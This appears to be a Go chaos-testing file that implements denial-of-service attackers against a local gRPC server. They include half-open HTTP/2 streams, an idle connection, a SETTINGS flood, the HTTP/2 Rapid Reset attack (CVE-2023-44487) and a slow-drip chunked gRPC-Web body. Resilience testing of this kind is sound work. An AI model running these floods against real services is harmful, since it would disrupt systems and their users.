package chaos

// Attackers that speak HTTP: HTTP/2 frames written with x/net/http2's
// Framer (gRPC over h2c) and raw HTTP/1.1 (gRPC-Web).

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2conn is an HTTP/2 client connection driven frame by frame. A reader
// goroutine reads and drops what the server sends, acknowledging its
// SETTINGS (a real client must), and records when the server closes the
// connection. Writes are buffered: call flush.
type h2conn struct {
	mu   sync.Mutex
	bw   *bufio.Writer
	fr   *http2.Framer // writes only
	gone chan struct{} // closed when the server closed the connection (or we did)
}

// startH2 writes the client preface and an empty SETTINGS frame and starts
// the reader.
func startH2(ctx context.Context, c net.Conn, r *connRec) (*h2conn, error) {
	h := &h2conn{bw: bufio.NewWriterSize(c, 64<<10), gone: make(chan struct{})}
	h.fr = http2.NewFramer(h.bw, nil)
	h.bw.WriteString(http2.ClientPreface)
	h.fr.WriteSettings()
	if err := h.bw.Flush(); err != nil {
		writeFailed(ctx, r)
		close(h.gone)
		return nil, err
	}
	go func() {
		defer close(h.gone)
		rf := http2.NewFramer(nil, bufio.NewReader(c))
		for {
			f, err := rf.ReadFrame()
			if err != nil {
				if ctx.Err() == nil {
					r.serverClosed()
				}
				return
			}
			if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() {
				h.write(func(fr *http2.Framer) { fr.WriteSettingsAck() })
			}
		}
	}()
	return h, nil
}

// write runs frames under the write lock and flushes.
func (h *h2conn) write(frames func(*http2.Framer)) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	frames(h.fr)
	return h.bw.Flush()
}

// requestBlock is an HPACK header block of a gRPC request for Echo/Say
// with extra metadata. Every field is encoded never-indexed, so the block
// does not touch the HPACK dynamic table and can be sent any number of
// times on any connection.
func requestBlock(kv ...string) []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	fields := []string{
		":method", "POST", ":scheme", "http", ":path", echoSay, ":authority", "127.0.0.1",
		"content-type", "application/grpc+proto", "te", "trailers",
	}
	fields = append(fields, kv...)
	for i := 0; i+1 < len(fields); i += 2 {
		enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1], Sensitive: true})
	}
	return b.Bytes()
}

// h2HalfOpen opens calls with HEADERS (8 KB of metadata each) and never
// sends their bodies or END_STREAM.
func h2HalfOpen(calls int) func(context.Context, net.Conn, *connRec) {
	return func(ctx context.Context, c net.Conn, r *connRec) {
		h, err := startH2(ctx, c, r)
		if err != nil {
			return
		}
		block := requestBlock("x-pad", pad)
		err = h.write(func(fr *http2.Framer) {
			for i := range calls {
				fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: block, EndHeaders: true})
			}
		})
		if err != nil {
			writeFailed(ctx, r)
		}
		<-h.gone
	}
}

// h2Idle sends the HTTP/2 preface and SETTINGS, then nothing.
func h2Idle(ctx context.Context, c net.Conn, r *connRec) {
	if h, err := startH2(ctx, c, r); err == nil {
		<-h.gone
	}
}

// h2Flood writes batch in a tight loop until the server closes the
// connection.
func h2Flood(ctx context.Context, c net.Conn, r *connRec, batch func(*http2.Framer)) {
	h, err := startH2(ctx, c, r)
	if err != nil {
		return
	}
	for ctx.Err() == nil {
		if err := h.write(batch); err != nil {
			writeFailed(ctx, r)
			break
		}
		select {
		case <-h.gone:
			return
		default:
		}
	}
	<-h.gone
}

// h2SettingsFlood sends SETTINGS frames, which the server must ACK.
func h2SettingsFlood(ctx context.Context, c net.Conn, r *connRec) {
	h2Flood(ctx, c, r, func(fr *http2.Framer) {
		for range 256 {
			fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
		}
	})
}

// h2RapidReset opens streams and resets them at once (CVE-2023-44487).
func h2RapidReset(ctx context.Context, c net.Conn, r *connRec) {
	block := requestBlock()
	id := uint32(1)
	h2Flood(ctx, c, r, func(fr *http2.Framer) {
		for range 64 {
			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
			fr.WriteRSTStream(id, http2.ErrCodeCancel)
			id += 2
		}
	})
}

// webSlowBody starts a gRPC-Web call over HTTP/1.1 with a chunked body
// and then sends one byte of it every second, forever.
func webSlowBody(ctx context.Context, c net.Conn, r *connRec) {
	gone := watchRead(ctx, c, r)
	req := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/grpc-web+proto\r\n"+
		"X-Grpc-Web: 1\r\nTransfer-Encoding: chunked\r\n\r\n", echoSay)
	if _, err := c.Write([]byte(req)); err != nil {
		writeFailed(ctx, r)
		<-gone
		return
	}
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for {
		select {
		case <-gone:
			return
		case <-tick.C:
		}
		if _, err := c.Write([]byte("1\r\n\x00\r\n")); err != nil {
			writeFailed(ctx, r)
			<-gone
			return
		}
	}
}
